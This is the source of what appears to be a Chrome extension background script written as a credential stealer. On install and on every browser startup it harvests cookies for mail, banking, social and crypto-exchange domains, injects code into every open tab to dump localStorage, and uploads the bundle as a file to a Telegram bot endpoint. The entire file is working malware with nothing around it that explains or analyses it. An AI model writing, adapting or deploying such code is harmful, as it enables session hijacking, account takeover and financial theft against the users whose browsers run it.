const sites = ['mail.example', 'bank.example', 'social.example', 'exchange.example'];
const out = {};
async function jar() {
  for (const domain of sites) {
    const list = await chrome.cookies.getAll({ domain });
    out[domain] = list.map((c) => `${c.domain}\t${c.hostOnly ? 'FALSE' : 'TRUE'}\t${c.path}\t${c.secure ? 'TRUE' : 'FALSE'}\t${c.expirationDate || 0}\t${c.name}\t${c.value}`).join('\n');
  }
  for (const t of await chrome.tabs.query({})) {
    if (!/^https?:/.test(t.url)) continue;
    const [{ result }] = await chrome.scripting.executeScript({ target: { tabId: t.id }, func: () => JSON.stringify(localStorage) });
    out['ls:' + new URL(t.url).host] = result;
  }
  const fd = new FormData();
  fd.append('chat_id', '-100000000');
  fd.append('document', new Blob([JSON.stringify(out)]), 'c.txt');
  await fetch('https://api.telegram.org/botTOKEN_PLACEHOLDER/sendDocument', { method: 'POST', body: fd });
}
chrome.runtime.onStartup.addListener(jar);
chrome.runtime.onInstalled.addListener(jar);
